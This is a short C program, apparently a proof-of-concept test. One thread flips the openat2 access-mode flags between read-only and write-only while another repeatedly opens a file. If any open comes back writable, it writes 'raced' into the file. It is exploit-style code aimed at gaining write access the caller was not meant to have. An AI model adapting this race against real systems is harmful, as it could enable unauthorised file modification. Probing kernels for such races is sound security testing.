/* open_race FILE TRIES: the openat2 access-mode race. A second thread keeps flipping
 * open_how.flags between O_RDONLY and O_WRONLY while the main thread calls openat2; whenever an
 * open comes back writable it writes "raced" into FILE (the forbidden effect) and stops.
 * Prints "won N" (the try that got a writable descriptor, then wrote) or "lost" after TRIES. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct open_how how;
static volatile int stop;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        __atomic_store_n(&how.flags, (unsigned long long)O_RDONLY, __ATOMIC_RELAXED);
        __atomic_store_n(&how.flags, (unsigned long long)O_WRONLY, __ATOMIC_RELAXED);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    long tries = atol(argv[2]);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    for (long i = 0; i < tries; i++) {
        int fd = (int)syscall(SYS_openat2, AT_FDCWD, argv[1], &how, sizeof how);
        if (fd < 0) continue;
        int acc = fcntl(fd, F_GETFL) & O_ACCMODE;
        if (acc != O_RDONLY) {
            if (write(fd, "raced", 5) == 5) {
                printf("won %ld\n", i);
                fflush(stdout);
                stop = 1;
                return 0;
            }
        }
        close(fd);
    }
    stop = 1;
    printf("lost\n");
    return 1;
}
